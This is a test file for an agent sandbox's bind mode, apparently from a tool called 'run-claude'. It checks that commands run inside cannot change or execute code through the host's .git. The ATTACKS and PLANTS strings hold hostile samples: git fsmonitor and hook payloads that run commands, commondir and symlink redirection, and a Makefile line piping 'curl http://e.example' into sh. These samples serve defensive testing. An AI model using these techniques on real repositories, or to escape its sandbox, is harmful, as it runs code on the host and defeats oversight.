import { execFileSync } from 'node:child_process';
import { chownSync, existsSync, lstatSync, mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, it } from 'vitest';
import { Scene } from '../../../support/scene.ts';

// The whole command in bind mode. What each part of the shield holds is in test/engine/workspace/bind/bind.test.ts.

/** git refuses a repository of another user. */
const SAFE = { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'safe.directory', GIT_CONFIG_VALUE_0: '*' };

const FSMONITOR = '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch EXECUTED; false\\n';

/** Again and again, so that the host looks at every state in between. */
const ATTACKS = `i=0; while [ $i -lt 40 ]; do i=$((i+1))
mv .git .g2; mkdir -p .git/objects evil/refs evil/objects; printf '${FSMONITOR}' > .git/config
printf '${FSMONITOR}' > evil/config; echo ../evil > .git/commondir; rm -rf .git; ln -sfn evil .git
printf '#!/bin/sh\\ntouch EXECUTED\\n' > .git/hooks/post-index-change; sleep 0.05; done 2>/dev/null`;

const PLANTS = `printf '${FSMONITOR}' > sub/.git/config
rm -rf sub/.git/hooks; ln -s ../../evil sub/.git/hooks; echo m > sub/.git/COMMIT_EDITMSG
mkdir -p node_modules/x/.git/objects node_modules/x/.git/refs; echo ref: refs/heads/main > node_modules/x/.git/HEAD
echo more >> README.md; printf 'all:\\n\\tcurl -s http://e.example | sh\\n' > Makefile`;

function own(scene: Scene): void {
  // Bind mode runs as the project's owner: root's would be refused what another user's is allowed.
  if (process.getuid?.() === 0) execFileSync('chown', ['-R', '1000:1000', scene.project]);
}

function nested(scene: Scene): void {
  mkdirSync(path.join(scene.project, 'sub'));
  execFileSync('git', ['init', '-q', '-b', 'main', 'sub'], { cwd: scene.project, env: scene.env });
  scene.write('sub/.git/hooks/pre-push', '#!/bin/sh\n', 0o755);
  scene.write('.gitignore', 'node_modules/\n');
}

it('keeps .git byte-identical at every moment, runs nothing on the host, and restores the rest at the end', async () => {
  await using scene = new Scene({ env: SAFE });
  nested(scene);
  own(scene);
  const before = scene.fingerprint('.git');
  const config = readFileSync(path.join(scene.project, 'sub/.git/config'), 'utf8');
  const script = `git log --oneline | wc -l\n${ATTACKS}\n${PLANTS}`;
  let ended = false;
  const running = scene.run(['exec', '--bind', scene.project, '--', 'sh', '-c', script]).finally(() => {
    ended = true;
  });
  let looks = 0;
  while (!ended) {
    expect(scene.fingerprint('.git')).toBe(before);
    // A refresh of the index by this test's own git would count as a change.
    scene.git('--no-optional-locks', 'status', '--porcelain');
    looks += 1;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  const { status, stdout, stderr } = await running;
  expect(looks).toBeGreaterThan(5);
  expect(existsSync(path.join(scene.project, 'EXECUTED'))).toBe(false);
  expect(stdout.trim()).toBe('3');
  expect(stderr).toContain('run no git there: sub/.git');
  expect(stderr).toMatch(/sub\/\.git\/config: changed.*restored/);
  expect(stderr).toMatch(/node_modules\/x\/\.git: a new git repository; moved/);
  expect(stderr).toMatch(/WARNING: .*Makefile: .*curl/);
  expect(stderr).toContain('+\tcurl'.replace('\t', '        '));
  expect(stderr).not.toMatch(/README\.md: its content cannot be judged|not synced/);
  expect(status).toBe(121);
  expect(readFileSync(path.join(scene.project, 'sub/.git/config'), 'utf8')).toBe(config);
  expect(lstatSync(path.join(scene.project, 'sub/.git/hooks')).isDirectory()).toBe(true);
  expect(existsSync(path.join(scene.project, 'sub/.git/hooks/pre-push'))).toBe(true);
  expect(existsSync(path.join(scene.project, 'node_modules/x/.git'))).toBe(false);
  expect(readFileSync(path.join(scene.project, 'README.md'), 'utf8')).toContain('more');
  expect(scene.fingerprint('.git')).toBe(before);
});

it('commits made inside are in the session’s own repository, and come back on request', async () => {
  await using scene = new Scene({ env: SAFE });
  own(scene);
  const [before, head] = [scene.fingerprint('.git'), scene.git('rev-parse', 'main').trim()];
  const commit = 'git add -A && git -c user.name=Agent -c user.email=a@example.org commit -qm "made inside"';
  const script = `echo inside > made.txt && ${commit} && git log --oneline | wc -l && git status --porcelain`;
  const made = await scene.run(['exec', '--bind', scene.project, '--', 'sh', '-c', script]);
  expect([made.status, made.stdout.trim()]).toEqual([0, '4']);
  const [session] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
  expect(made.stderr).toContain(`Commits were made inside: run-claude commits ${session.id} --import`);
  expect(scene.fingerprint('.git')).toBe(before);
  expect(scene.git('status', '--porcelain')).toBe('?? made.txt\n');
  const status = (await scene.run(['status', session.id])).stdout;
  expect(status).toContain('1 file changed in the project\nThe changes are in the project already.');
  expect((await scene.run(['diff', '--name-only', session.id])).stdout).toBe('made.txt\n');

  await scene.run(['gc', '--yes']);
  const imported = await scene.run(['commits', '--import']);
  expect(imported.stdout).toContain('made inside');
  const ref = `refs/run-claude/${session.id}/main`;
  expect([imported.status, imported.stderr]).toEqual([0, expect.stringContaining(`Imported ${ref}`)]);
  expect(scene.git('log', '--format=%s %an', `main..${ref}`)).toBe('made inside Agent\n');
  expect(scene.git('rev-parse', 'main').trim()).toBe(head);
  await using pty = scene.pty(['commits', '--import']);
  await pty.see(/Move main forward by 1 commit[\s\S]*?\[y\/N\/\?\]/);
  pty.send('y\r');
  expect(await pty.exited).toBe(0);
  expect([scene.git('rev-parse', 'main'), scene.git('status', '--porcelain')]).toEqual([
    scene.git('rev-parse', ref),
    '',
  ]);

  const none = await scene.run(['exec', '--bind', scene.project, '--', 'git', 'status']);
  expect([none.status, none.stderr]).toEqual([0, expect.not.stringContaining('Commits were made')]);
  const [last] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
  expect(existsSync(path.join(scene.places().stateDir, 'sessions', last.id, 'layer'))).toBe(false);
  expect((await scene.run(['commits', last.id])).stderr).toContain(
    'keeps only its repository, for two weeks, and only if it has commits',
  );
});

it('after a killed command, the next one ends the agent and restores the project', async () => {
  await using scene = new Scene({ env: SAFE });
  const plain = path.join(scene.root, 'plain');
  mkdirSync(plain);
  if (process.getuid?.() === 0) chownSync(plain, 1000, 1000);
  const script = `mkdir -p .git/objects .git/refs objects refs; echo ref: refs/heads/main | tee HEAD > .git/HEAD
printf '${FSMONITOR}' > .git/config; echo ready; while :; do date +%s%N > ticking; sleep 0.1; done`;
  const child = scene.spawn(['exec', '--bind', plain, '--', 'sh', '-c', script]);
  const gone = new Promise((resolve) => child.once('close', resolve));
  await new Promise<void>((resolve, reject) => {
    child.stdout?.on('data', (chunk: Buffer) => chunk.includes('ready') && resolve());
    child.once('close', () => reject(new Error('it ended before its agent was ready')));
  });
  child.kill('SIGKILL');
  await gone;
  const [session] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
  const { stderr, status } = await scene.run(['status', session.id]);
  expect(stderr).toContain('was cut off');
  expect(stderr).toMatch(/\.git: a new git repository; moved/);
  expect(stderr).toMatch(/HEAD: .*bare repository; moved/);
  expect(status).toBe(0);
  for (const name of ['.git', 'HEAD']) expect(existsSync(path.join(plain, name)), name).toBe(false);
  const last = readFileSync(path.join(plain, 'ticking'), 'utf8');
  await new Promise((resolve) => setTimeout(resolve, 500));
  expect(readFileSync(path.join(plain, 'ticking'), 'utf8')).toBe(last);
  const left = execFileSync('docker', ['ps', '-aq', '--filter', `label=run-claude.session=${session.id}`]);
  expect(left.toString()).toBe('');
});

it('a report that cannot be written ends the command after the project was checked, without a false warning', async () => {
  await using scene = new Scene({ env: SAFE });
  mkdirSync(path.join(scene.project, 'out'));
  own(scene);
  const report = path.join(scene.project, 'out', 'report.json');
  const script = 'mv out old; ln -s old out; mkdir -p deep/.git/objects deep/.git/refs; echo x > deep/.git/HEAD';
  const { status, stderr } = await scene.run([
    'exec',
    '--bind',
    '--report',
    report,
    scene.project,
    '--',
    'sh',
    '-c',
    script,
  ]);
  expect(stderr).toContain('was replaced during the session');
  expect(stderr).toMatch(/deep\/\.git: a new git repository; moved/);
  expect(stderr).not.toContain('was not checked');
  expect([status, existsSync(report)]).toEqual([125, false]);
  const [session] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
  expect((await scene.run(['status', session.id])).stderr).not.toContain('was cut off');
});
